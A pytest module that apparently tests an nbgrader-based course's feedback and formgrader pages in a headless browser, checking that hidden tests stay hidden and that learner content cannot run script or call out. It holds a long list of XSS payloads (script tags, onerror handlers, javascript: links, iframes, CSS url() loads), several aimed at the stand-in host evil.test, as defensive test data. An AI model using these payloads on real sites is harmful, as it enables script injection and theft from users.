"""Feedback and formgrader pages in a real browser: what learners read, and that nothing of a learner's runs there."""

from __future__ import annotations

import base64
import html
import io
import json
import mimetypes
import re
import shutil
import subprocess
import sys
from collections.abc import Callable
from concurrent.futures import ThreadPoolExecutor
from dataclasses import dataclass, field
from pathlib import Path
from types import SimpleNamespace
from typing import Any
from urllib.parse import quote, urlsplit

import chromium
import nbformat
import pytest
from nbconvert.exporters import HTMLExporter
from nbformat import NotebookNode
from nbformat.v4 import new_code_cell, new_markdown_cell, new_notebook, new_output
from PIL import Image
from playwright.sync_api import Page, Request, Route, sync_playwright
from traitlets.config import Config

from moi.grading.assignment import Cell, Notebook
from moi.grading.clean import clean_markdown, clean_outputs, clean_raw
from moi.grading.exercises import ROOT, course_api, done
from moi.grading.feedback import HIDDEN, Feedback
from moi.grading.graded import graded as graded_notebook
from moi.grading.run import Run
from moi.grading.stage import Staged, StagedCell, stage

NAME = "doubling"
SECRET = "a line that only the instructor reads"

TESTS = f"""\
def check_double():
    from moi.grading.checks import equal, ideas

    with ideas(points=2) as check:
        with check.idea(1, "twice a number"):
            equal(double(2), 4, "two of it, not its square")
            ### BEGIN HIDDEN TESTS
            equal(double(21), 42, "two of it, not its square")  # {SECRET}
            ### END HIDDEN TESTS
        with check.idea(1, "nothing stays nothing"):
            equal(double(0), 0, "twice nothing is nothing")
    return check.score


check_double()"""
PLAIN_TEST = f"""\
assert callable(double)
### BEGIN HIDDEN TESTS
secret_of_this_test = "{SECRET}"
assert double("ab") == "abab", "text can be doubled too"
### END HIDDEN TESTS"""
ANSWER = "def double(x):\n    ### BEGIN SOLUTION\n    return 2 * x  # the reference\n    ### END SOLUTION"
TASK = f"Draw it. Formula: $\\frac{{a}}{{b}}$\n\n=== BEGIN MARK SCHEME ===\n{SECRET}\n=== END MARK SCHEME ==="


def entry(name: str, **more: Any) -> dict[str, Any]:
    usual = {"grade": False, "solution": False, "locked": False, "task": False, "schema_version": 3, "grade_id": name}
    return {"nbgrader": {**usual, **more}}


def source_notebook() -> NotebookNode:
    cells = [
        new_markdown_cell(
            "# Doubling\n\nWrite `double(x)`, which returns $2 \\cdot x$.\n\n| x | double |\n|--|--|\n| 1 | 2 |"
        ),
        new_code_cell(ANSWER, metadata=entry("double", solution=True)),
        new_code_cell(TESTS, metadata=entry("check-double", grade=True, locked=True, points=2.0)),
        new_code_cell(PLAIN_TEST, id="check-text", metadata=entry("check-text", grade=True, locked=True, points=1.0)),
        new_markdown_cell("Because.", metadata=entry("why", grade=True, solution=True, points=2.0)),
        new_markdown_cell(TASK, metadata=entry("draw", task=True, locked=True, points=3.0)),
    ]
    kernel = {"display_name": "Python 3", "language": "python", "name": "python3"}
    return new_notebook(cells=cells, metadata={"kernelspec": kernel})


SQUARE = "def double(x):\n    return x * x"
LOOKS_AROUND = f'''\
import inspect, os, sys
class Peeping:
    def __eq__(self, other):
        print(inspect.getsource(sys._getframe(1)))
        return False
def double(x):
    return Peeping()
print(os.getcwd(), sys.prefix)
open("{ROOT}/nowhere/at-all.csv")'''
STUDENTS = {"square": SQUARE, "peeping": LOOKS_AROUND, "right": "def double(x):\n    return x + x"}


@pytest.fixture(scope="module")
def graded(tmp_path_factory: pytest.TempPathFactory) -> Any:
    """nbgrader's API in a small course with this course's configuration, graded by nbgrader itself."""
    from nbgrader.api import Gradebook

    folder = tmp_path_factory.mktemp("feedback").resolve()
    (folder / "solutions" / NAME).mkdir(parents=True)
    nbformat.write(source_notebook(), folder / "solutions" / NAME / f"{NAME}.ipynb")
    api = course_api(folder)
    done(api.generate_assignment(NAME))
    for student, answer in STUDENTS.items():
        work = nbformat.read(folder / "exercises" / NAME / f"{NAME}.ipynb", as_version=4)
        work.cells[1].source = answer
        work.cells[4].source = "I said $a < b$ & meant it.\n\n<script>ran('answer')</script>"
        place = folder / "submitted" / student / NAME
        place.mkdir(parents=True)
        nbformat.write(work, place / f"{NAME}.ipynb")
        done(api.autograde(NAME, student))
    with Gradebook(api.coursedir.db_url, api.coursedir.course_id) as gradebook:
        gradebook.find_comment(
            "why", NAME, NAME, "square"
        ).manual_comment = "Say **why**. <img src=x onerror=\"ran('comment')\">"
        # As formgrader leaves it; but the last one's work has changed since.
        marks = [("square", "why", 1.5), ("square", "draw", 1.5), ("right", "why", 0.0), ("peeping", "why", 0.5)]
        for student, name, score in marks:
            grade = gradebook.find_grade(name, NAME, NAME, student)
            grade.manual_score, grade.needs_manual_grade = score, student == "peeping"
        gradebook.db.commit()
    return api


@pytest.fixture(scope="module")
def pages(graded: Any) -> dict[str, str]:
    """Student to the feedback page that nbgrader's own command wrote."""
    done(graded.generate_feedback(NAME))
    root = Path(graded.coursedir.root)
    return {student: (root / "feedback" / student / NAME / f"{NAME}.html").read_text("utf-8") for student in STUDENTS}


def words(page: str) -> str:
    """What a reader sees of a page."""
    bare = re.sub(r"<style>.*?</style>|<[^>]*>", "", page, flags=re.DOTALL)
    return re.sub(r"\s+", " ", html.unescape(bare))


def test_each_idea_says_whether_it_is_earned_and_why_not(pages: dict[str, str]) -> None:
    assert "✗ twice a number not earned (1) two of it, not its square (got 441)" in words(pages["square"])
    assert "✓ nothing stays nothing earned (1)" in words(pages["square"])
    assert "✓ twice a number earned (1)" in words(pages["right"]) and "✗" not in pages["right"]


def test_scores_and_comments_are_there(pages: dict[str, str]) -> None:
    seen = words(pages["square"])
    assert "For square 4 of 8 points" in seen and "check-double 1 of 2" in seen and "why 1.5 of 2" in seen
    assert "Say why." in seen and "<strong>why</strong>" in pages["square"]
    assert "I said $a < b$ & meant it." in seen
    assert "so far" not in seen and "by hand" not in seen and "not marked yet" not in seen


def test_what_nobody_has_marked_yet_is_not_called_nothing(pages: dict[str, str]) -> None:
    seen = words(pages["right"])
    assert "3 of 8 points so far, 3 still to be marked by hand" in seen
    assert "why 0 of 2" in seen and "Your answer why 0 of 2 points" in seen  # a zero that was given
    assert "draw not marked yet" in seen and "Task draw not marked yet" in seen
    assert "looked at again" not in seen


def test_a_mark_that_has_to_be_looked_at_again_says_so(pages: dict[str, str]) -> None:
    seen = words(pages["peeping"])
    assert "Your answer why, to be looked at again 0.5 of 2 points" in seen and "They may change." in seen
    assert "points so far, 3 still to be marked by hand" in seen


@pytest.mark.parametrize(
    ("score", "points", "open", "said"),
    [
        (1.0, 1.0, "", "All checks hold."),
        (0.0, 0.0, "", "All checks hold."),
        (1.0, 2.0, "", "Not all of these checks hold."),
        (0.0, 1.0, "unmarked", "not marked yet"),
    ],
)
def test_a_check_that_says_nothing_is_put_into_words(score: float, points: float, open: str, said: str) -> None:
    cell = new_code_cell("1", metadata=entry("check", grade=True, locked=True, points=points, score=score, open=open))
    seen = words(Feedback().from_notebook_node(new_notebook(cells=[cell]))[0])
    assert said in seen and seen.count("checks hold") == (0 if open else 1)


@pytest.mark.parametrize("student", STUDENTS)
def test_what_is_hidden_stays_hidden(pages: dict[str, str], graded: Any, student: str) -> None:
    page = pages[student]
    stock = Path(graded.coursedir.root, "autograded", student, NAME, f"{NAME}.ipynb").read_text("utf-8")
    for secret in (SECRET, "double(21)", "secret_of_this_test", "HIDDEN TESTS", "MARK SCHEME"):
        assert secret in stock and secret not in words(page)
    assert words(page).count(HIDDEN) == 2


def test_hidden_lines_that_a_learners_object_printed_are_left_out(pages: dict[str, str], graded: Any) -> None:
    stock = Path(graded.coursedir.root, "autograded", "peeping", NAME, f"{NAME}.ipynb")
    (cell,) = (cell for cell in nbformat.read(stock, as_version=4).cells if cell.id == "check-text")
    assert SECRET in cell.outputs[0].text and "assert callable(double)" in cell.outputs[0].text
    assert words(pages["peeping"]).count("assert callable(double)") == 2  # in the test, and in what was printed


def test_nbgraders_command_makes_this_page(graded: Any, pages: dict[str, str]) -> None:
    folder = Path(graded.coursedir.root)
    shutil.copy(ROOT / "nbgrader_config.py", folder)
    command = [sys.executable, "-m", "nbgrader", "generate_feedback", NAME, "--student=right", "--force"]
    subprocess.run(command, cwd=folder, check=True, capture_output=True, stdin=subprocess.DEVNULL)
    page = folder / "feedback" / "right" / NAME / f"{NAME}.html"
    assert page.read_text("utf-8") == pages["right"]


def test_error_of_a_test_shows_its_message_and_no_traceback(pages: dict[str, str]) -> None:
    assert "TypeError: can't multiply sequence by non-int of type 'str'" in words(pages["square"])
    assert "Traceback" not in words(pages["square"])


def test_no_path_of_the_machine(pages: dict[str, str], graded: Any) -> None:
    stock = Path(graded.coursedir.root, "autograded", "peeping", NAME, f"{NAME}.ipynb").read_text("utf-8")
    seen = words(pages["peeping"])
    # What the learner typed stays; the outputs name only the file.
    outputs = seen.replace(f'open("{ROOT}/nowhere/at-all.csv")', "")
    assert "FileNotFoundError" in seen and "at-all.csv" in outputs
    for path in (graded.coursedir.root, str(ROOT), str(Path.home()) + "/", "site-packages/"):
        assert path not in outputs
    assert graded.coursedir.root in stock


def test_outputs_for_the_instructor_are_left_out() -> None:
    mark = {"moi": {"for": "instructor"}}
    cell = new_code_cell("check()", metadata=entry("check", grade=True, locked=True, points=1.0, score=0.0))
    cell.outputs = [
        new_output("display_data", {"text/plain": SECRET}, metadata=mark),
        new_output("error", ename="Wrong", evalue="the sign is wrong", traceback=[SECRET]),
    ]
    page, _ = Feedback().from_notebook_node(new_notebook(cells=[cell]))
    assert SECRET not in page and "Wrong: the sign is wrong" in words(page)


def test_a_formula_as_an_output_is_told_in_tex_where_python_has_no_words_for_it() -> None:
    from IPython.display import Math

    of_object = {"text/plain": repr(Math("")), "text/latex": r"$\alpha + 1$"}
    of_expression = {"text/plain": "x**2", "text/latex": "$x^{2}$"}
    cell = new_code_cell("show()", outputs=[new_output("display_data", data) for data in (of_object, of_expression)])
    page, _ = Feedback().from_notebook_node(new_notebook(cells=[cell]))
    assert r"$\alpha + 1$" in words(page) and "x**2" in words(page)
    assert "object" not in words(page) and "x^{2}" not in words(page)


def test_an_answer_that_was_left_empty_says_so() -> None:
    said = "(nothing was written here)"
    for source in ("", " \n"):
        for make in (new_markdown_cell, new_code_cell):
            answer = make(source, metadata=entry("why", grade=True, solution=True, points=2.0, score=0.0))
            assert said in words(Feedback().from_notebook_node(new_notebook(cells=[answer]))[0])
    cells = [new_markdown_cell("", metadata=entry("given", locked=True)), new_markdown_cell("")]
    assert said not in words(Feedback().from_notebook_node(new_notebook(cells=cells))[0])


def _task(name: str, kind: str = "check") -> NotebookNode:
    if kind == "words":
        return new_markdown_cell("# My own", metadata=entry(name, grade=True, solution=True, points=2.0, score=1.0))
    return new_code_cell("1", metadata=entry(name, grade=True, locked=True, points=1.0, score=1.0))


@pytest.mark.parametrize(
    ("cells", "title", "chips"),
    [
        ([_task("one"), _task("two")], "file", ["one", "two"]),
        (["# All", _task("one"), "## Task", _task("two")], "All", ["one", "Task"]),
        (
            ["All\n===\n## A *part*\n### 1. Forecast `error` $e$ (1.5 points, by hand)", _task("one"), _task("two")],
            "All",
            ["1. Forecast error $e$ 1", "1. Forecast error $e$ 2"],
        ),
        (["# All\n## A", _task("one"), "## B", _task("two"), "## A", _task("three")], "All", ["A 1", "B", "A 2"]),
        (["# First <b>&amp;</b>", _task("one"), "# Second", _task("two")], "file", ["First &", "Second"]),
        (["# All", "# First", _task("one"), "# Second", _task("two")], "All", ["First", "Second"]),
        (["# All\n## A", _task("one", "words"), _task("two")], "All", ["A 1", "A 2"]),
        (["```\n# no heading\n```", _task("one")], "file", ["one"]),
    ],
)
def test_headings_name_the_page_and_its_tasks(cells: list[Any], title: str, chips: list[str]) -> None:
    notebook = new_notebook(cells=[new_markdown_cell(c) if isinstance(c, str) else c for c in cells])
    page, _ = Feedback().from_notebook_node(notebook, {"metadata": {"name": "file"}})
    found = re.findall(r'<a href="#part-\d+" title="(\w+)">(.*?) <b>[\d.]+ of', page)
    assert [html.unescape(chip) for _, chip in found] == chips
    assert [name for name, _ in found] == [c.metadata.nbgrader.grade_id for c in cells if not isinstance(c, str)]
    assert f"<h1>{title}</h1>" in re.sub(r'<h1 title="file">', "<h1>", page)
    assert f"<title>{title}: feedback</title>" in page


def test_other_delimiters_of_a_course_are_known() -> None:
    config = Config()
    config.ClearHiddenTests.begin_test_delimeter, config.ClearHiddenTests.end_test_delimeter = "VON HIER", "BIS HIER"
    cell = new_code_cell(f"# VON HIER\n{SECRET}\n# BIS HIER\nseen()", metadata=entry("check", grade=True, points=1.0))
    page, _ = Feedback(config=config).from_notebook_node(new_notebook(cells=[cell]))
    assert SECRET not in page and "HIER" not in page and "seen()" in words(page)


# --- in the browser

STATIC = Path(__import__("nbgrader").__file__).parent / "server_extensions" / "formgrader" / "static"
# formgrader's page asks for MathJax; it is not to be had here, and its absence is the worse case for nobody.
KNOWN = ("cdnjs.cloudflare.com",)


@dataclass
class Seen:
    """What happened on a page: what called ``ran``, what was asked for, and what ``look`` found."""

    ran: set[str] = field(default_factory=set)
    asked: list[str] = field(default_factory=list)
    found: Any = None


Look = Callable[[Page], Any]


@pytest.fixture(scope="module")
def visit() -> Any:
    """``visit(html, look)`` opens a page in a Chromium of its own thread, pokes at everything, and reports."""

    def serve(route: Route, page: str) -> None:
        path = urlsplit(route.request.url).path
        if path == "/submissions/1/":
            route.fulfill(body=page, content_type="text/html; charset=utf-8")
        elif path.startswith("/formgrader/static/") and (file := STATIC / path[len("/formgrader/static/") :]).is_file():
            route.fulfill(path=file, content_type=mimetypes.guess_type(file.name)[0] or "text/plain")
        elif path.startswith("/formgrader/api/"):
            route.fulfill(body=json.dumps(API.get(path.rpartition("/")[2], [])), content_type="application/json")
        else:
            route.abort()

    def ordinary(request: Request) -> bool:
        parts = urlsplit(request.url)
        own = parts.netloc == "course.test" and parts.path.startswith(("/submissions/1/", "/formgrader/"))
        return own or parts.scheme in ("data", "about") or parts.netloc in KNOWN

    def open_page(browser: Any, page: str, look: Look, options: dict[str, Any]) -> Seen:
        context = browser.new_context(**options)
        seen = Seen()
        context.expose_function("ran", lambda name: seen.ran.add(name))
        context.on("request", lambda request: ordinary(request) or seen.asked.append(request.url))
        context.route("**/*", lambda route: serve(route, page))
        tab = context.new_page()
        tab.on("dialog", lambda dialog: dialog.dismiss())
        tab.goto("http://course.test/submissions/1/", wait_until="load")
        tab.evaluate(POKE)
        tab.wait_for_timeout(500)
        seen.found = look(tab)
        context.close()
        return seen

    with ThreadPoolExecutor(1) as thread:
        path = thread.submit(chromium.find).result() or pytest.fail(chromium.ADVICE)
        playwright = thread.submit(lambda: sync_playwright().start()).result()
        options = ["--no-sandbox", "--disable-gpu", "--disable-quic", "--disable-background-networking"]
        browser = thread.submit(lambda: playwright.chromium.launch(executable_path=path, args=options)).result()
        yield lambda page, look=lambda tab: None, **more: thread.submit(open_page, browser, page, look, more).result()
        thread.submit(lambda: (browser.close(), playwright.stop())).result()


# What a reader's hand does: over everything, and onto what would run a script (another page is left alone).
POKE = """() => {
    for (const element of document.querySelectorAll('body *')) {
        for (const kind of ['mouseover', 'mouseenter', 'pointerover', 'focus', 'wheel'])
            element.dispatchEvent(new Event(kind, {bubbles: true}));
        if (element.tagName == 'DETAILS' || element.tagName == 'SUMMARY') element.open = true;
    }
    for (const link of document.querySelectorAll('a, [href], [formaction], form')) {
        const to = link.href?.baseVal ?? link.href ?? link.formAction ?? link.action ?? '';
        if (/^(javascript|data|vbscript):/i.test(String(to).trim())) {
            link.removeAttribute('target');
            link.click ? link.click() : link.dispatchEvent(new MouseEvent('click', {bubbles: true}));
        }
    }
}"""
API = {
    "grades": [{"id": "g1", "name": "check-double", "max_score": 2, "auto_score": 1, "manual_score": None}],
    "comments": [],
}
# What there may be none of inside the notebook, whoever ran it.
FORBIDDEN = """() => {
    const page = document.querySelector('#notebook-container') ?? document.querySelector('main');
    const found = [...page.querySelectorAll(
        'script, iframe, object, embed, form, base, meta, link, svg, math, video, audio, portal, template, button.own'
    )].map(element => element.outerHTML.slice(0, 200));
    for (const element of page.querySelectorAll('*')) {
        for (const {name, value} of element.attributes)
            if (name.startsWith('on') || /^\\s*(javascript|vbscript|data:text)/i.test(value))
                found.push(`${element.tagName} ${name}=${value.slice(0, 100)}`);
        const style = getComputedStyle(element);
        if (style.position == 'fixed' || (style.position == 'absolute' && element.closest('.output, .rendered_html')))
            found.push(`${element.tagName} lies over the page`);
    }
    return found;
}"""


def ran(name: str) -> str:
    return f"ran('{name}')"


def html_outputs() -> dict[str, str]:
    """Vector to text/html."""
    made = {
        "script": f"<script>{ran('script')}</script>",
        "script-src": '<script src="http://evil.test/script-src.js"></script>',
        "img-onerror": f'<img src=x onerror="{ran("img-onerror")}">',
        "svg-onload": f'<svg onload="{ran("svg-onload")}"></svg>',
        "svg-animate": f'<svg><animate onbegin="{ran("svg-animate")}" attributeName=x dur=1s></svg>',
        "svg-script": f"<svg><script>{ran('svg-script')}</script></svg>",
        "svg-link": f'<svg><a href="javascript:{ran("svg-link")}"><text y=9>x</text></a></svg>',
        "details-ontoggle": f'<details open ontoggle="{ran("details-ontoggle")}">x</details>',
        "mouseover": f'<b onmouseover="{ran("mouseover")}">x</b>',
        "autofocus": f'<input autofocus onfocus="{ran("autofocus")}">',
        "iframe-srcdoc": f"""<iframe srcdoc="<script>parent.{ran("iframe-srcdoc")}</script>"></iframe>""",
        "iframe-javascript": f'<iframe src="javascript:parent.{ran("iframe-javascript")}"></iframe>',
        "iframe-far": '<iframe src="http://evil.test/iframe-far"></iframe>',
        "object": '<object data="http://evil.test/object"></object>',
        "embed": '<embed src="http://evil.test/embed">',
        "video": f'<video><source onerror="{ran("video")}"></video>',
        "audio": f'<audio src=x onerror="{ran("audio")}"></audio>',
        "link-javascript": f'<a href="javascript:{ran("link-javascript")}">x</a>',
        "link-tab": f'<a href="java\tscript:{ran("link-tab")}">x</a>',
        "link-entity": f'<a href="&#106;avascript:{ran("link-entity")}">x</a>',
        "link-control": f'<a href="&#1;javascript:{ran("link-control")}">x</a>',
        "form-action": f'<form action="javascript:{ran("form-action")}"><input type=submit></form>',
        "css-import": "<style>@import url(http://evil.test/css-import);</style>",
        "css-background": "<style>body{background:url(http://evil.test/css-background)}</style>",
        "css-scoped": "<style>#T_a1{background:url(http://evil.test/css-scoped)}</style><table id=T_a1></table>",
        "css-escape": "<style>#T_a2{background:u\\72l(http://evil.test/css-escape)}</style><table id=T_a2></table>",
        "style-background": '<p style="background:url(http://evil.test/style-background)">x</p>',
        "style-cover": '<p style="position:fixed;inset:0;z-index:99999;background:white">covers</p>',
        "stylesheet": '<link rel=stylesheet href="http://evil.test/stylesheet">',
        "prefetch": '<link rel=prefetch href="http://evil.test/prefetch">',
        "picture": '<img src="http://evil.test/picture">',
        "srcset": '<img srcset="http://evil.test/srcset 1x">',
        "poster": '<video poster="http://evil.test/poster"></video>',
        "base": '<base href="http://evil.test/">',
        "math-link": f'<math><maction href="javascript:{ran("math-link")}">x</maction></math>',
        "mutation-noscript": f'<noscript><p title="</noscript><img src=x onerror={ran("mutation-noscript")}>">',
        "mutation-math": (
            "<math><mtext><table><mglyph><style><!--</style>"
            f'<img title="--&gt;&lt;img src=1 onerror={ran("mutation-math")}&gt;">'
        ),
        "mutation-title": f'<svg></p><style><a id="</style><img src=1 onerror={ran("mutation-title")}>">',
        "tooltip": f'<b data-toggle="tooltip" data-html="true" title="<img src=x onerror={ran("tooltip")}>">x</b>',
        "onscroll": f'<p style="overflow:scroll;height:9px" onwheel="{ran("onscroll")}">x</p>',
        "closing": f'</div></div></div><img src=x onerror="{ran("closing")}">',
        "meta": '<meta http-equiv=refresh content="9;url=http://evil.test/meta">',
    }
    return made


SVG = '<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9"{}>{}</svg>'
OTHER_OUTPUTS: dict[str, dict[str, Any]] = {
    "javascript": {"application/javascript": ran("javascript")},
    "svg": {"image/svg+xml": SVG.format(f' onload="{ran("svg")}"', f"<script>{ran('svg')}</script>")},
    "svg-far": {"image/svg+xml": SVG.format("", '<image href="http://evil.test/svg-far" width="9" height="9"/>')},
    "svg-break": {"image/svg+xml": f'"><img src=x onerror="{ran("svg-break")}">'},
    "png-break": {"image/png": f'"><img src=x onerror="{ran("png-break")}">'},
    "markdown": {"text/markdown": f'<img src=x onerror="{ran("markdown")}">'},
    "latex": {"text/latex": f'$<img src=x onerror="{ran("latex")}">$'},
    "latex-href": {"text/latex": f"$\\href{{javascript:{ran('latex-href')}}}{{x}}$"},
    "plain": {"text/plain": f'<img src=x onerror="{ran("plain")}">'},
    "widget": {"application/vnd.jupyter.widget-view+json": {"model_id": f"</script><script>{ran('widget')}</script>"}},
    "mermaid": {"text/vnd.mermaid": f'<img src=x onerror="{ran("mermaid")}">'},
}
MARKDOWN = {
    "md-script": f"<script>{ran('md-script')}</script>",
    "md-img": f'text <img src=x onerror="{ran("md-img")}"> text',
    "md-block": f'<div>\n<svg onload="{ran("md-block")}">\n</div>',
    "md-link": f"[x](javascript:{ran('md-link')})",
    "md-link-case": f"[x](JaVaScRiPt:{ran('md-link-case')})",
    "md-link-entity": f"[x](&#106;avascript:{ran('md-link-entity')})",
    "md-link-angle": f"[x](<javascript:{ran('md-link-angle')}>)",
    "md-reference": f"[x][one]\n\n[one]: javascript:{ran('md-reference')}",
    "md-shortcut": f"[two]\n\n[two]: javascript:{ran('md-shortcut')}",
    "md-autolink": f"<javascript:{ran('md-autolink')}>",
    # nbconvert takes "files/" out of every address once the page is made.
    "md-files": f"[x](files/javascript:{ran('md-files')})",
    "md-data": "[x](data:text/html;base64,"
    + base64.b64encode(f"<script>{ran('md-data')}</script>".encode()).decode()
    + ")",
    # nbconvert puts the text of this block into the page as it is.
    "md-mermaid": f'```mermaid\n<img src=x onerror="{ran("md-mermaid")}">\n```',
    "md-title": f"[x](http://evil.test/ '\"><img src=x onerror={ran('md-title')}>')",
    "md-picture": "![x](http://evil.test/md-picture.png)",
    "md-picture-reference": "![x][three]\n\n[three]: http://evil.test/md-picture-reference.png",
    "md-picture-relative": "![x](/md-picture-relative)",
    "md-picture-protocol": "![x](//evil.test/md-picture-protocol.png)",
    "md-maths": f"$<img src=x onerror={ran('md-maths')}>$",
    "md-environment": f"\\begin{{a}}<img src=x onerror={ran('md-environment')}>\\end{{a}}",
    "md-half-fence": f'`` ` `` <img src=x onerror="{ran("md-half-fence")}"> `',
    "md-comment": f'<!-- `a --> <img src=x onerror="{ran("md-comment")}"> ` -->',
    "md-style": "<style>body{background:url(http://evil.test/md-style)}</style>",
    "md-form": '<form action="http://evil.test/md-form"><input name=x><button>Full credit</button></form>',
    "md-table": f'| a |\n|--|\n| <img src=x onerror="{ran("md-table")}"> |',
    "md-heading": f'# <img src=x onerror="{ran("md-heading")}">',
    "md-fence-info": f'```python"><img/src=x/onerror="{ran("md-fence-info")}">\nx\n```',
    "md-iframe": '<iframe src="http://evil.test/md-iframe"></iframe>',
    "md-cover": '<p style="position:fixed;inset:0;z-index:99999">covers</p>',
    "md-surrogate": f'\ud83d<img src=x onerror="{ran("md-surrogate")}">',
    "md-split": f"<scr<script>ipt>{ran('md-split')}</script>",
    "md-cdata": f'<![CDATA[<img src=x onerror="{ran("md-cdata")}">]]>',
    "md-processing": f'<?x <img src=x onerror="{ran("md-processing")}">?>',
}
STREAMS = {
    "stream": f'<img src=x onerror="{ran("stream")}">',
    "stream-colour": f'\x1b[31m<img src=x onerror="{ran("stream-colour")}">\x1b[38m\x1b[999;m',
}


def hostile() -> NotebookNode:
    """A notebook with every vector, and a last cell that shows that the page got so far."""
    cells = [new_code_cell(TESTS, metadata=entry("check-double", grade=True, locked=True, points=2.0))]
    for name, page in html_outputs().items():
        cells.append(new_code_cell(name, outputs=[display({"text/html": page, "text/plain": name})]))
    cells.append(
        new_code_cell(
            "isolated", outputs=[display({"text/html": html_outputs()["script"]}, {"text/html": {"isolated": 1}})]
        )
    )
    size = {"image/png": {"width": f"1 onload={ran('size')}", "alt": f'"><img src=x onerror={ran("size")}>'}}
    cells.append(new_code_cell("size", outputs=[display({"image/png": PIXEL}, size)]))
    cells += [new_code_cell(name, outputs=[display(data)]) for name, data in OTHER_OUTPUTS.items()]
    for name, text in STREAMS.items():
        error = {"output_type": "error", "ename": text, "evalue": text, "traceback": [text]}
        stream = {"output_type": "stream", "name": "stdout", "text": text}
        cells.append(new_code_cell(name, outputs=[nbformat.from_dict(error), nbformat.from_dict(stream)]))
    cells += [new_markdown_cell(text) for text in MARKDOWN.values()]
    cells.append(new_markdown_cell('# check-double\n\ncheck-double\n===\n\n<h2 id="check-double">x</h2>'))
    cells.append(nbformat.v4.new_raw_cell('<div id="check-double"><img src=x onerror="ran(\'raw\')"></div>'))
    cells.append(new_markdown_cell("The end is reached."))
    for place, cell in enumerate(cells):
        cell.id = f"c{place}"
    # formgrader writes marks to the first element that carries the name of a graded cell.
    return new_notebook(cells=[*cells[1:-1], cells[0], cells[-1]])


PIXEL = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="


def display(data: dict[str, Any], metadata: dict[str, Any] | None = None) -> NotebookNode:
    return nbformat.from_dict({"output_type": "display_data", "data": data, "metadata": metadata or {}})


def cleaned(notebook: NotebookNode) -> NotebookNode:
    """What the grading run writes for it."""
    made = nbformat.from_dict(notebook)
    for cell in made.cells:
        if cell.cell_type == "code":
            cell.outputs = [nbformat.from_dict(output) for output in clean_outputs(cell.outputs)]
        elif cell.cell_type == "markdown":
            cell.source = clean_markdown(cell.source, names={"check-double"})
        else:
            cell.source = clean_raw(cell.source)
    return made


def formgrader(notebook: NotebookNode) -> str:
    """The page of formgrader's SubmissionHandler."""
    from nbgrader.server_extensions.formgrader import handlers

    config = Config()
    config.HTMLExporter.template_name = "formgrade"
    config.HTMLExporter.extra_template_basedirs = [handlers.template_path]
    config.HTMLExporter.preprocessors = ["moi.grading.formgrader.Wrapped"]
    known = {"assignment_id": NAME, "notebook_id": NAME, "submission_id": "1", "index": 0, "total": 1, "base_url": ""}
    who = {"student": "x", "last_name": "x", "first_name": "x", "notebook_path": "x"}
    page, _ = HTMLExporter(config=config).from_notebook_node(notebook, resources={**known, **who})
    return page.encode("utf-8", "replace").decode()


def pasted() -> NotebookNode:
    """A notebook as ``moi grade`` leaves it, into whose answer a picture of each kind was pasted, and some hostile."""

    def drawn(kind: str) -> str:
        into = io.BytesIO()
        Image.new("RGB", (9, 7)).save(into, kind)
        return base64.b64encode(into.getvalue()).decode()

    script = base64.b64encode(f"<script>{ran('png-script')}</script>".encode()).decode()
    svg = SVG.format(f' onload="{ran("pasted-svg")}"', f"<script>{ran('pasted-svg')}</script>")
    attachments: dict[str, Any] = {
        f"a {kind}": {f"image/{kind}": drawn(kind)} for kind in ("png", "jpeg", "gif", "webp")
    }
    attachments |= {
        "script": {"image/png": script},
        "mime": {f'image/png;base64,x"><img src=x onerror={ran("mime")}>': drawn("png")},
        "svg": {"image/svg+xml": base64.b64encode(svg.encode()).decode()},
        f'"><img src=x onerror={ran("name")}>': {"image/png": drawn("png")},
        "dict": {"image/png": {"image/png": drawn("png")}},
        "text": drawn("png"),
    }
    text = "\n\n".join(f"![{quote(name)}](attachment:{quote(name)})" for name in attachments)
    answer = Cell(
        "answer", "markdown", "why", "why", "Because.", "YOUR ANSWER HERE", 2.0, (), entry("why", solution=True)
    )
    notebook = Notebook(NAME, (answer,), {}, (), (), ())
    handed_in = {"cell_type": "markdown", "id": "why", "source": text, "attachments": attachments}
    staged = stage(notebook, json.dumps({"cells": [handed_in]}).encode())
    assert "only in the file that was handed in: why (6 times)" in staged.notes[0]
    made = graded_notebook(notebook, staged, Run(((),), (), {}), Config(), {})
    read = nbformat.reads(made.text.decode(), as_version=4)
    nbformat.validate(read)
    return read


PICTURES = """() => [...document.querySelectorAll('#notebook-container img, main img')]
    .map(image => [image.alt, image.naturalWidth, image.src.slice(0, 15)])"""


def test_pasted_pictures_are_seen_and_nothing_else_of_them(visit: Any) -> None:
    notebook = pasted()
    for page in (formgrader(notebook), Feedback().from_notebook_node(notebook)[0]):
        seen = visit(page, lambda tab: SimpleNamespace(**vars(looked(tab)), images=tab.evaluate(PICTURES)))
        kinds = ("png", "jpeg", "gif", "webp")
        assert seen.found.images == [[f"a%20{kind}", 9, f"data:image/{kind};"[:15]] for kind in kinds]
        assert (seen.ran, seen.asked, seen.found.forbidden) == (set(), [], [])
        assert seen.found.text.count("A picture that cannot be shown.") == 6


@pytest.mark.parametrize("role", ["given", "free", "answer"])
@pytest.mark.parametrize("theirs", [{}, {"attachments": {}}, {"attachments": {"fig": {"image/gif": "x"}}}])
def test_pictures_of_the_author_are_seen(role: Any, theirs: dict[str, Any]) -> None:
    text, figure = (
        "![](attachment:fig)",
        {"fig": {"image/gif": "R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7"}},
    )
    name = "" if role == "free" else "own"
    own = Cell(role, "markdown", name, "own", text, text, 0.0, (), entry("own") if name else {}, figure)
    notebook = Notebook(NAME, (own,), {}, (), (), ())
    handed_in = {"cell_type": "markdown", "id": "own", "source": text} | theirs
    made = graded_notebook(
        notebook, stage(notebook, json.dumps({"cells": [handed_in]}).encode()), Run(((),), (), {}), Config(), {}
    )
    for page in (
        formgrader(read := nbformat.reads(made.text.decode(), as_version=4)),
        Feedback().from_notebook_node(read)[0],
    ):
        assert f"data:image/gif;base64,{figure['fig']['image/gif']}" in page


def test_what_the_author_released_is_left_as_it_is() -> None:
    released = '<div class="alert">Write here.</div>'
    answer = Cell("answer", "markdown", "why", "why", "Because.", released, 2.0, (), entry("why", solution=True))
    notebook = Notebook(NAME, (answer,), {}, (), (), ())
    for written, shown in ((released, released), (released + "!", "&lt;div")):
        staged = stage(
            notebook, json.dumps({"cells": [{"cell_type": "markdown", "id": "why", "source": written}]}).encode()
        )
